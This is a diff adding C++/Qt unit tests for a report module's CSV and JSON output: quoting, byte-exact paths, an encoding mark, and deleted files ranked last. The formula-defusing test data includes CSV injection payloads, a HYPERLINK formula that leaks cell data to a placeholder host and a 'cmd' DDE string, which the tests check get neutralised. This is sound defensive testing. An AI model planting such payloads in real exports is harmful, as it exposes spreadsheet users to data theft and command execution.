@@ -2,12 +2,16 @@
 #include "core/report/batch_report.h"
 #include "core/report/csv.h"
 #include "core/report/index_report.h"
+#include "core/report/match_presence.h"
 #include "core/report/search_report.h"
 #include "tests/core/report/csv_reader.h"
 
 #include <QJsonArray>
 #include <QJsonDocument>
+#include <QTemporaryDir>
 #include <QtTest>
+
+#include <fstream>
 
 using namespace coverscope;
 using test::parseCsv;
@@ -90,8 +94,14 @@ private Q_SLOTS:
     void compareJsonCarriesTheHeatmap();
     void indexJsonNamesSkippedFiles();
     void fieldsAreQuotedWhereTheyMustBe();
+    void formulasAreDefusedAndNumbersAreNot_data();
+    void formulasAreDefusedAndNumbersAreNot();
+    void pathsLeadBackToTheFile_data();
+    void pathsLeadBackToTheFile();
+    void spreadsheetsAreToldTheEncoding();
     void numbersHaveAPointAndNoTail();
     void resultTableReadsBack();
+    void deletedFilesComeLast();
     void heatmapReadsBack();
     void batchGivesEveryClipAStatus();
 };
@@ -218,9 +228,66 @@ void ReportTest::fieldsAreQuotedWhereTheyMustBe()
              QByteArray("a,,b c\r\n"));
     QCOMPARE(report::csvRow({QStringLiteral("a,b"), QStringLiteral("say \"x\""), QStringLiteral("1\n2")}),
              QByteArray("\"a,b\",\"say \"\"x\"\"\",\"1\n2\"\r\n"));
-    const QStringList nasty{QStringLiteral("\""), QStringLiteral(",,"), QStringLiteral("\r\n"),
+    const QStringList nasty{QStringLiteral("\""), QStringLiteral(",,"), QStringLiteral("x\r\n"),
                             QStringLiteral("ü")};
     QCOMPARE(parseCsv(report::csvRow(nasty)).front(), nasty);
+}
+
+void ReportTest::formulasAreDefusedAndNumbersAreNot_data()
+{
+    QTest::addColumn<QString>("field");
+    QTest::addColumn<bool>("isFormula");
+    QTest::newRow("link") << "=HYPERLINK(\"http://x/?\"&A1,\"y\")" << true;
+    QTest::newRow("sum") << "@SUM(1+1)" << true;
+    QTest::newRow("plus") << "+1+cmd|' /C calc'!A0" << true;
+    QTest::newRow("minus") << "-2+3" << true;
+    QTest::newRow("a dash") << "- untitled -" << true;
+    QTest::newRow("tab") << "\t=1+1" << true;
+    QTest::newRow("line break") << "\r=1+1" << true;
+    QTest::newRow("full width") << QStringLiteral("\uFF1D1+1") << true;
+    QTest::newRow("telephone") << "+49 30 123" << true;
+    QTest::newRow("key shift") << "-3" << false;
+    QTest::newRow("signed") << "+3" << false;
+    QTest::newRow("decimal") << "-0.25" << false;
+    QTest::newRow("small") << "1e-05" << false;
+    QTest::newRow("in the middle") << "a=b" << false;
+    QTest::newRow("nothing") << "" << false;
+}
+
+void ReportTest::formulasAreDefusedAndNumbersAreNot()
+{
+    QFETCH(QString, field);
+    QFETCH(bool, isFormula);
+    const QString read = parseCsv(report::csvRow({QStringLiteral("x"), field})).front()[1];
+    QCOMPARE(read, isFormula ? QLatin1Char('\'') + field : field);
+}
+
+void ReportTest::pathsLeadBackToTheFile_data()
+{
+    QTest::addColumn<QByteArray>("path");
+    QTest::addColumn<QByteArray>("written");
+    QTest::newRow("text") << QByteArray("/m/Caf\xC3\xA9.wav") << QByteArray("/m/Caf\xC3\xA9.wav");
+    QTest::newRow("Latin-1") << QByteArray("/m/Caf\xE9.wav") << QByteArray("/m/Caf\xE9.wav");
+    QTest::newRow("cut off") << QByteArray("/m/\xE3\x81") << QByteArray("/m/\xE3\x81");
+    QTest::newRow("Shift-JIS") << QByteArray("/m/\x93\xFA\x96\x7B.wav")
+                               << QByteArray("/m/\x93\xFA\x96\x7B.wav");
+    QTest::newRow("beside others") << QByteArray("\xF0\x9F\x8E\xB5\xFF")
+                                   << QByteArray("\xF0\x9F\x8E\xB5\xFF");
+    QTest::newRow("with a comma") << QByteArray("/m/\xE9,b.wav") << QByteArray("\"/m/\xE9,b.wav\"");
+    QTest::newRow("as a formula") << QByteArray("=1+1.wav") << QByteArray("./=1+1.wav");
+}
+
+void ReportTest::pathsLeadBackToTheFile()
+{
+    QFETCH(QByteArray, path);
+    QFETCH(QByteArray, written);
+    QCOMPARE(report::csvRow({report::csvPath(path.toStdString())}), written + "\r\n");
+}
+
+void ReportTest::spreadsheetsAreToldTheEncoding()
+{
+    QCOMPARE(report::forSpreadsheet("a,b\r\n"), QByteArray("\xEF\xBB\xBF"
+                                                           "a,b\r\n"));
 }
 
 void ReportTest::numbersHaveAPointAndNoTail()
@@ -248,6 +315,46 @@ void ReportTest::resultTableReadsBack()
     QCOMPARE(records[1][4].toDouble(), 0.625);
     QCOMPARE(records[2][0], QStringLiteral("2"));
     QVERIFY(records[2][1].isEmpty());
+}
+
+void ReportTest::deletedFilesComeLast()
+{
+    const QTemporaryDir folder;
+    const std::filesystem::path root = folder.path().toStdString();
+    library::Snapshot snapshot;
+    snapshot.roots = {{catalogue::RootId{1}, root}, {catalogue::RootId{2}, root / "unplugged"}};
+    search::SearchResult result;
+    result.query = makeQuery();
+    for (const int id : {1, 2, 3, 4}) {
+        catalogue::Track track;
+        track.id = TrackId{id};
+        track.root = catalogue::RootId{id == 3 ? 2 : 1};
+        track.relativePath = std::to_string(id) + ".wav";
+        snapshot.indexOfTrack.emplace(id, snapshot.tracks.size());
+        snapshot.tracks.push_back(track);
+        search::Match match;
+        match.rank = static_cast<std::size_t>(id);
+        match.track = track.id;
+        result.matches.push_back(match);
+    }
+    std::ofstream(root / "2.wav") << "x"; // 1 and 4 were deleted, 3 is on a drive that is away
+    report::rankDeletedLast(result, snapshot);
+    std::vector<int> order;
+    for (std::size_t k = 0; k < result.matches.size(); ++k) {
+        QCOMPARE(result.matches[k].rank, k + 1);
+        order.push_back(static_cast<int>(result.matches[k].track));
+    }
+    QVERIFY(order == (std::vector<int>{2, 3, 1, 4}));
+    const auto records = parseCsv(report::resultTableCsv(result, snapshot));
+    const auto present = [&records](std::size_t row) {
+        return records[row].at(records[0].indexOf(QLatin1String("present")));
+    };
+    QCOMPARE(present(1), QStringLiteral("yes"));
+    QCOMPARE(present(2), QStringLiteral("no"));
+    QCOMPARE(present(4), QStringLiteral("no"));
+    const QJsonObject json = report::searchJson(result, snapshot);
+    QVERIFY(json[QStringLiteral("matches")][0][QStringLiteral("present")].toBool(false));
+    QVERIFY(!json[QStringLiteral("matches")][3][QStringLiteral("present")].toBool(true));
 }
 
 void ReportTest::heatmapReadsBack()
